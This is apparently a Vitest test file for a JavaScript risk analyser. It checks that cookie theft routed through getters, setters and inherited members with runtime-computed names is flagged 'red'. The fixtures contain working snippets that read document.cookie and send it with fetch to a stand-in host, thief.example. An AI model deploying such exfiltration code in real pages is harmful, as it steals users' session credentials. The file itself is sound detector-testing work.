import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";

const NAME = `[sessionStorage.getItem("k")]`;
const SEND = `(v) { fetch("https://thief.example/?c=" + v); }`;
const COOKIE = "() { return document.cookie; }";
const send = (what: string) => `fetch("https://thief.example/?c=" + ${what});`;

/** Cookies pass through a member whose name is not known where it is defined, where it is used, or in neither place. */
const THEFTS: Readonly<Record<string, string>> = {
	"a getter": `const o = { get ${NAME}${COOKIE} }; ${send("o.now")}`,
	"a getter of a class": `class A { get ${NAME}${COOKIE} } ${send("new A().now")}`,
	"an inherited method": `class A { ${NAME}${COOKIE} } class B extends A {} ${send("new B().now()")}`,
	"an inherited getter": `const o = Object.create({ get ${NAME}${COOKIE} }); ${send("o.now")}`,
	"a defined getter": `const o = {}; Object.defineProperty(o, sessionStorage.getItem("k"), { get${COOKIE} }); ${send("o.now")}`,
	"a copied getter": `const o = { ...{ get ${NAME}${COOKIE} } }; ${send("o.now")}`,
	"a setter": `const o = { set ${NAME}${SEND} }; o.now = document.cookie;`,
	"a static setter": `class A { static set ${NAME}${SEND} } A[location.hash] = document.cookie;`,
	"a named setter": `const o = { set now${SEND} }; o${NAME} = document.cookie;`,
};

const HARMLESS: Readonly<Record<string, string>> = {
	"a getter that nothing sends": `const o = { get ${NAME}${COOKIE} }; document.title = o.now; fetch("https://api.example/");`,
	"another object's getter": `const o = { get ${NAME}${COOKIE} }, p = { now: 1 }; ${send("p.now")}`,
	"a setter that keeps": `const o = { set ${NAME}(v) { this.kept = v; } }; o.now = document.cookie; fetch("https://api.example/");`,
};

describe("members with unknown names", () => {
	test.each(Object.entries(THEFTS))("%s: a theft is red", (_name, code) => {
		expect(analyzeScript({ code }).risk_level).toBe("red");
	});

	test.each(Object.entries(HARMLESS))("%s: no theft, not red", (_name, code) => {
		expect(analyzeScript({ code }).risk_level).not.toBe("red");
	});
});
